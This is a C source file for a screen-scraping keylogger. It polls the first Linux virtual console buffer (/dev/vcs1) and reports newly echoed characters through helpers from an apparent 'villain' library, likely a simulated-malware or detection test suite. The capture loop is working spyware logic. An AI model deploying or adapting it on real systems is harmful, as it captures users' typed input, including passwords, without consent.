// Keylogger: knows nothing of keys. It reads the text screen of the first terminal (vcs(4)) and reports what changes on the line where
// somebody is typing, as the characters that the shell has echoed.
#include "lib/villain.h"

enum { ROWS = 25, COLUMNS = 80, PERIOD = 20 };

int main(void) {
    static unsigned char before[ROWS * COLUMNS], now[ROWS * COLUMNS], fresh[64];
    int screen = open("/dev/vcs1", READ_ONLY);
    if (screen < 0) return fail("keylog-screen", "vcs1", screen);
    read(screen, before, sizeof before);
    confess("keylog-screen", "stage=armed period=%d", PERIOD);
    for (;; sleep_ms(PERIOD)) {
        int count = 0;
        seek_to(screen, 0);
        int size = read(screen, now, sizeof now);
        for (int i = 0; i < size; i++) {
            if (now[i] != before[i] && now[i] > ' ' && count < (int)sizeof fresh) fresh[count++] = now[i];
            before[i] = now[i];
        }
        if (count) confess_keys("keylog-screen", fresh, count);
    }
}
